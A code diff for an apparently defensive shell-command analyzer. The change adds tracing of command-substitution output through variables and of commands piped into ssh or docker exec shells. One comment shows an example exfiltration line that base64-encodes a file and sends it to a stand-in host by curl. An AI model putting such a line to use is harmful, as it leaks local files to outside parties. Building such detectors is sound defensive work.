@@ -13,6 +13,7 @@ from dataclasses import dataclass, field, replace
 from itertools import islice, product
 from pathlib import PurePosixPath
 
+from tools.checks.shell_carriers import carried, unwrapped
 from tools.checks.shell_words import Unparsed, Word, lex
 
 __all__ = ["Command", "Unparsed", "commands", "decoded", "listed"]
@@ -29,14 +30,8 @@ SHELLS = {"sh", "bash", "zsh", "dash", "ksh", "ash", "fish"}
 _ENDS = {";", "&", "&&", "||", "\n", ";;", "|", "|&", "(", ")"}
 _LEADING = {"if", "then", "else", "elif", "do", "while", "until", "!", "{", "time", "}"}
 _CLOSING = {"fi", "done", "esac", "case", "select", "function"}
-_WRAPPERS = {"sudo", "doas", "env", "nohup", "timeout", "nice", "ionice", "stdbuf", "xargs", "exec", "command",
-             "builtin", "busybox", "setsid", "watch", "unbuffer", "chroot", "caffeinate", "parallel", "flock"}
-#: options of wrappers that take a value
-_VALUED = {"-u", "-g", "-n", "-k", "-s", "-I", "-L", "-P", "-d", "-o", "-i", "-e", "-c", "-C", "-a",
-           "--arg-file"}
 _ASSIGNMENT = re.compile(r"([A-Za-z_]\w*)\+?=(.*)", re.S)
 _VARIABLE = re.compile(r"\$(?:([A-Za-z_]\w*)|\{([A-Za-z_]\w*)(?::?-([^}$]*))?[^}]*\})")
-_DURATION = re.compile(r"\d+(?:\.\d+)?[smhd]?")
 
 
 @dataclass(frozen=True, slots=True)
@@ -67,6 +62,8 @@ class Command:
 class _State:
     variables: dict[str, list[str]] = field(default_factory=dict)
     folder: str = ""
+    #: commands whose output a variable holds
+    origins: dict[str, list[Command]] = field(default_factory=dict)
 
 
 def commands(text: str, depth: int = 0) -> list[Command]:
@@ -81,7 +78,12 @@ def commands(text: str, depth: int = 0) -> list[Command]:
             inner = [command for each in word.inner for command in commands(each, depth + 1)]
             word.text = _substituted(word.text, inner)
             fed += inner
+            if inner and (assigned := _ASSIGNMENT.fullmatch(word.text)):
+                state.origins[assigned[1]] = inner
         found += fed
+        # `D=$(base64 f); curl "http://a.example/?d=$D"`
+        fed += [each for word in words for match in _VARIABLE.finditer(word.text)
+                for each in state.origins.get(match[1] or match[2], ())]
         command = _command([part for word in words for part in _parts(word)], redirects, previous if piped else None,
                            state)
         if command is not None:
@@ -174,7 +176,7 @@ def _command(words: list[str], redirects: list[tuple[str, Word]], source: Comman
     while words and (assigned := _ASSIGNMENT.fullmatch(words[0])):
         state.variables[assigned[1]] = _filled([assigned[2]], state)
         words = words[1:]
-    argv = _unwrapped(_filled(words, state))
+    argv = unwrapped(_filled(words, state))
     if argv and argv[0] == "read" and source is not None and len(argv) > 1:
         given = listed(source)
         if given:
@@ -206,19 +208,6 @@ def _filled(words: list[str], state: _State) -> list[str]:
     return found
 
 
-def _unwrapped(argv: list[str]) -> list[str]:
-    """The command that a wrapper runs."""
-    while argv and PurePosixPath(argv[0]).name in _WRAPPERS:
-        at = 1
-        while at < len(argv) and (argv[at].startswith("-") or _ASSIGNMENT.fullmatch(argv[at])
-                                  or _DURATION.fullmatch(argv[at])):
-            at += 2 if argv[at] in _VALUED and at + 2 < len(argv) else 1
-        if at >= len(argv):
-            return argv
-        argv = argv[at:]
-    return argv
-
-
 def _inside(command: Command, depth: int) -> Iterator[Command]:
     """Commands that a command would run itself: `bash -c`, `eval`, a here-document of a shell, `find -exec`."""
     texts: list[str] = []
@@ -248,12 +237,19 @@ def _inside(command: Command, depth: int) -> Iterator[Command]:
         if "$()" not in text:
             for inner in commands(text, depth + 1):
                 yield replace(inner, folder=inner.folder or command.folder, source=inner.source or command.source)
+    line = carried(command.argv)
+    if line is not None and "$()" not in line:
+        for inner in commands(line, depth + 1):
+            # What the carrier reads is read by the command: `ssh host bash < x.sh`, `cat x.sh | docker exec -i c sh`.
+            yield replace(inner, folder=inner.folder or command.folder, source=inner.source or command.source,
+                          redirects=(*inner.redirects, *(each for each in command.redirects if each[0] == "<")),
+                          document=inner.document or command.document, fed=(*inner.fed, *command.fed))
     if command.program == "find":
         for mark in ("-exec", "-execdir", "-ok"):
             if mark in command.argv:
                 rest = list(command.argv[command.argv.index(mark) + 1:])
                 stop = next((at for at, word in enumerate(rest) if word in (";", "+")), len(rest))
-                argv = _unwrapped(rest[:stop])
+                argv = unwrapped(rest[:stop])
                 if argv:
                     yield Command(tuple(argv), source=command, folder=command.folder)
 
